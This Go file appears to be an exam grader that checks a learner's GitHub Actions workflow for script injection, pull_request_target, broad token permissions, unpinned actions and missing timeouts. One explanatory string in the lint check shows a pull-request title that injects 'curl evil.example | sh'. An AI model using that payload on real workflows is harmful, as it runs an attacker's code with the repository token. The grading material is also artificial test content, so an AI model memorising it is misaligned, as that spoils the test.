package exam

import (
	"fmt"
	"slices"
	"strings"

	"github.com/cairn-learn/cairn/grader/exam"
	"github.com/cairn-learn/cairn/grader/workflow"
)

const (
	maxMinutes    = 15
	maxComplaints = 5
	branch        = "main"
)

// line is a line of the workflow as a detail.
func line(w *workflow.Workflow, n int) string {
	return fmt.Sprintf("%s, line %d:\n    %s", w.Name, n, strings.TrimSpace(w.Line(n)))
}

func lint(c *exam.C) {
	w := c.Workflow()
	found, err := w.Lint()
	if err != nil {
		panic(err) // actionlint's own
	}
	if len(found) == 0 {
		return
	}
	first := found[0]
	if i := slices.IndexFunc(found, workflow.Complaint.Untrusted); i >= 0 {
		c.Fail(exam.Finding{
			Did:      "ran actionlint on " + w.Name,
			Expected: "no text that strangers write becomes part of a script",
			Saw:      fmt.Sprintf("line %d, column %d: %s", found[i].Line, found[i].Col, found[i].Message),
			Detail:   line(w, found[i].Line),
			Why:      "The expression is replaced before the shell reads the script. A pull request with the title `\"; curl evil.example | sh #` then runs what it says, with the job's token.",
			Read:     lesson + "text-of-strangers",
		})
	}
	f := exam.Finding{
		Did:      "ran actionlint on " + w.Name,
		Expected: "no complaint",
		Saw:      fmt.Sprintf("line %d, column %d: %s", first.Line, first.Col, first.Message),
		Detail:   line(w, first.Line),
	}
	for _, more := range found[1:min(len(found), maxComplaints)] {
		f.Detail += fmt.Sprintf("\nand at line %d, column %d: %s", more.Line, more.Col, more.Message)
	}
	c.Fail(f)
}

func emulated(c *exam.C) {
	w := c.Workflow()
	for _, u := range w.Unsupported() {
		c.Fail(exam.Finding{
			Did:      "read " + w.Name,
			Expected: "jobs on Ubuntu whose gates are run steps with bash or sh, as the task says",
			Saw:      u.Error(),
			Detail:   line(w, u.Line),
		})
	}
	if !slices.ContainsFunc(w.Jobs(), func(j workflow.Job) bool { return len(j.Scripts()) > 0 }) {
		c.Fail(exam.Finding{
			Did:      "read " + w.Name,
			Expected: "run steps that judge the code",
			Saw:      "no job has a run step",
		})
	}
}

func triggers(c *exam.C) {
	w := c.Workflow()
	did := "asked of " + w.Name + " when it runs"
	if t, ok := w.Trigger("pull_request_target"); ok {
		c.Fail(exam.Finding{
			Did: did, Expected: "pull_request, which runs the code of a stranger with a token that can read",
			Saw:    fmt.Sprintf("pull_request_target, in line %d. It runs in the name of the target branch, with its secrets and a token that can write, and each checkout of the pull request's head runs a stranger's code there", t.Line),
			Detail: line(w, t.Line),
		})
	}
	const expected = "a run for each pull request against main, and for each push to main"
	for _, event := range []string{"pull_request", "push"} {
		t, ok := w.Trigger(event)
		saw := ""
		switch {
		case !ok:
			saw = missing(w, event)
		case !t.TakesBranch(branch):
			saw = fmt.Sprintf("%s is filtered (line %d), and the filter lets nothing of the branch main pass", event, t.Line)
		case len(t.Paths)+len(t.PathsIgnore) > 0:
			saw = fmt.Sprintf("%s is filtered by paths (line %d): what touches only other files is never judged", event, t.Line)
		case t.Types != nil && !slices.Contains(t.Types, "opened"):
			saw = fmt.Sprintf("pull_request is limited to the types %s (line %d): a pull request that is opened starts nothing", strings.Join(t.Types, ", "), t.Line)
		case t.Types != nil && !slices.Contains(t.Types, "synchronize"):
			saw = fmt.Sprintf("pull_request is limited to the types %s (line %d): commits that are added later (synchronize) are never judged", strings.Join(t.Types, ", "), t.Line)
		}
		if saw != "" {
			c.Fail(exam.Finding{Did: did, Expected: expected, Saw: saw, Detail: "This is the place to begin: a workflow that does not run judges nothing. Under on stand the events."})
		}
	}
}

func missing(w *workflow.Workflow, event string) string {
	var others []string
	for _, t := range w.Triggers() {
		others = append(others, t.Event)
	}
	saw := "it runs on " + strings.Join(others, " and ") + " alone"
	if event == "push" {
		return saw + ": what main is after a merge is judged by nobody"
	}
	return saw + ": a pull request is merged before anything has looked at it"
}

func permissions(c *exam.C) {
	w := c.Workflow()
	allowed := map[string]string{"contents": "read"}
	for _, j := range w.Jobs() {
		did := fmt.Sprintf("asked what the token of the job %s may do", j.ID)
		const expected = "contents: read, and nothing else"
		p, ok := w.Token(j)
		if !ok {
			c.Fail(exam.Finding{
				Did: did, Expected: expected,
				Saw: "neither the workflow nor the job has permissions, so the settings of the repository decide. In many that is the right to write everywhere",
			})
		}
		if beyond := p.Beyond(allowed); len(beyond) > 0 {
			c.Fail(exam.Finding{Did: did, Expected: expected, Saw: "it may do more: " + strings.Join(beyond, ", "), Detail: line(w, p.Line)})
		}
		if j.ChecksOut() && p.Scopes["contents"] != "read" {
			c.Fail(exam.Finding{
				Did: did, Expected: expected, Detail: line(w, p.Line),
				Saw: "it may not read the contents. Where permissions are given, all that is not named is none, and the checkout of a private repository fails",
			})
		}
	}
}

// given are the hashes that the task names.
var given = map[string]string{
	"08c6903cd8c0fde910a37f88322edcfb5dd907a8": "actions/checkout",
	"4dc6199c7b1a012772edbd06daecab0f50c9053c": "actions/setup-go",
}

func pinned(c *exam.C) {
	w := c.Workflow()
	for _, u := range w.Uses() {
		whose, known := given[u.Version()]
		if swapped := known && whose != u.Action(); u.Pinned() && !swapped {
			continue
		} else if swapped {
			c.Fail(exam.Finding{
				Did: "looked at each uses in " + w.Name, Expected: "the hash of a commit of " + u.Action(), Detail: line(w, u.Line),
				Saw: "the hash of a commit of " + whose + ", which " + u.Action() + " does not have",
			})
		}
		saw := fmt.Sprintf("%s is called at %q, which is a tag or a branch", u.Action(), u.Version())
		switch hex := strings.Trim(u.Version(), "0123456789abcdef") == "" && len(u.Version()) >= 7; {
		case u.Version() == "":
			saw = u.Ref + " is called without a version"
		case hex:
			saw = fmt.Sprintf("%s is called at %q, which is the beginning of a hash. GitHub takes a hash only with all of its 40 digits", u.Action(), u.Version())
		case u.Version() == "main" || u.Version() == "master":
			saw = fmt.Sprintf("%s is called at %q, a branch: each run takes whatever was pushed there last", u.Action(), u.Version())
		}
		c.Fail(exam.Finding{
			Did:      "looked at each uses in " + w.Name,
			Expected: "owner/action@ and the 40 digits of a commit's hash",
			Saw:      saw,
			Detail:   line(w, u.Line),
		})
	}
}

func timeout(c *exam.C) {
	w := c.Workflow()
	for _, j := range w.Jobs() {
		saw := ""
		switch minutes := j.Timeout(); {
		case minutes == 0:
			saw = fmt.Sprintf("the job %s (line %d) has none, and so six hours", j.ID, j.Line)
		case minutes < 0:
			saw = fmt.Sprintf("the job %s has an expression in place of a number", j.ID)
		case minutes > maxMinutes:
			saw = fmt.Sprintf("the job %s has %v minutes", j.ID, minutes)
		}
		if saw != "" {
			c.Fail(exam.Finding{
				Did:      "asked after how many minutes each job is given up",
				Expected: fmt.Sprintf("timeout-minutes of each job, a number of at most %d", maxMinutes),
				Saw:      saw,
			})
		}
	}
}
